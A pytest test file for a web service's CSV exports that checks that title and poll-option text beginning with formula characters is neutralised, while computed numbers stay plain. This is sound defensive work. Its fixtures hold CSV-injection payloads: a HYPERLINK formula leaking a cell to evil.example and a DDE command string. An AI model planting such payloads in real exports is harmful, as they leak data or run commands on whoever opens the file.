"""Every CSV the service writes is safe to open in a spreadsheet (OWASP: CSV injection).

Text other people wrote (article titles, poll options) that starts with ``=``, ``+``,
``-``, ``@``, tab or CR comes out with a leading single quote; figures the service
computed stay plain numbers, negative ones included.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from tests.insight_data import D1, D2, add_comment, vote
from webapp.csv_export import SafeCsvWriter, spreadsheet_safe

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
HOSTILE_OPTIONS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def assert_no_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or is_number(cell), (cell, row)


# --- the writer --------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_text_starting_with_a_formula_character_is_neutralised(trigger):
    assert spreadsheet_safe(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", [-3, -0.25, Decimal("-0.0667"), 0, 12, 2.5])
def test_numbers_the_service_computed_stay_numbers(value):
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow(["label", value])
    assert buffer.getvalue() == f'"label",{value}\r\n'


def test_text_that_looks_like_a_negative_number_is_still_text():
    """Someone's poll option "-1" is text; only numbers the service wrote stay bare."""
    assert spreadsheet_safe("-1") == "'-1"


def test_every_text_cell_is_quoted_so_a_semicolon_cannot_split_it():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow(["a;=1+1", "plain", None, 7])
    assert buffer.getvalue() == '"a;=1+1","plain","",7\r\n'


def test_ordinary_text_is_left_as_it_is():
    assert spreadsheet_safe("Yes") == "Yes"
    assert spreadsheet_safe("2026-03-01") == "2026-03-01"
    assert spreadsheet_safe(" =not a formula after a space") == " =not a formula after a space"


# --- every export endpoint -------------------------------------------------------------------


@pytest.fixture
def editor(make_api, make_user):
    client = make_api()
    client.login(make_user("editor"))
    return client


@pytest.fixture
def hostile(db, make_user, make_article):
    """A labelled article whose title and poll options are formulas, with votes on
    every option and comments whose mean tone is negative."""
    found = make_article(
        HOSTILE_TITLE,
        poll={"options": HOSTILE_OPTIONS},
        labels=["Ceasefire"],
        published_at=datetime(2026, 2, 28, tzinfo=UTC),
    )
    for number, option in enumerate(found.poll.options):
        vote(found.poll, make_user(name=f"Voter {number}"), option, D1 if number % 2 else D2)
    critic = make_user(name="Critic")
    add_comment(db, found, critic, -0.6, "negative", D1)
    add_comment(db, found, critic, -0.2, "negative", D2)
    db.session.commit()
    return found


def test_the_hostile_values_reach_the_exports_as_written(hostile):
    """Guard for the tests below: the service stored the formulas as typed."""
    assert hostile.title == HOSTILE_TITLE
    assert [option.label for option in hostile.poll.options] == HOSTILE_OPTIONS


def test_votes_csv_neutralises_option_labels(editor, hostile):
    table = cells(editor.get(f"/editor/articles/{hostile.id}/votes.csv"))
    assert_no_formula(table)
    assert sorted(row[1] for row in table[1:]) == sorted(f"'{o}" for o in HOSTILE_OPTIONS)


@pytest.mark.parametrize("table_name", ["timeline", "tone", "shares"])
def test_sentiment_csvs_neutralise_text_and_keep_figures(editor, hostile, table_name):
    response = editor.get(
        f"/editor/articles/{hostile.id}/sentiment.csv", query_string={"table": table_name}
    )
    table = cells(response)
    assert_no_formula(table)
    raw = response.get_data(as_text=True)
    if table_name == "shares":
        assert [row[0] for row in table[1:]] == [f"'{o}" for o in HOSTILE_OPTIONS]
        assert [row[2] for row in table[1:]] == ["0.2500"] * 4
    if table_name == "tone":
        # A negative mean is written as a bare number, not quoted or prefixed.
        assert ",-0.4000," in raw
        assert table[1][2] == "-0.4000"
    if table_name == "timeline":
        assert any(row[-1] in ("-0.6000", "-0.2000") for row in table[1:])
        assert "'-0." not in raw


def test_overview_csv_neutralises_titles_and_leaders(editor, hostile):
    table = cells(editor.get("/editor/overview.csv"))
    assert_no_formula(table)
    [row] = [row for row in table[1:] if row[1] == hostile.slug]
    assert row[0] == "'" + HOSTILE_TITLE
    assert row[4] == "'" + HOSTILE_OPTIONS[0]  # ties go to the first option
    assert row[-1] == "-0.4000"


def test_trend_csv_neutralises_titles_and_options(editor, hostile):
    table = cells(
        editor.get(
            "/editor/overview/trend.csv",
            query_string={"label": "ceasefire", "option": HOSTILE_OPTIONS[1]},
        )
    )
    assert_no_formula(table)
    assert len(table) == 2
    assert table[1][1] == "'" + HOSTILE_TITLE
    assert table[1][3] == "'" + HOSTILE_OPTIONS[1]
    assert table[1][4:6] == ["1", "4"]
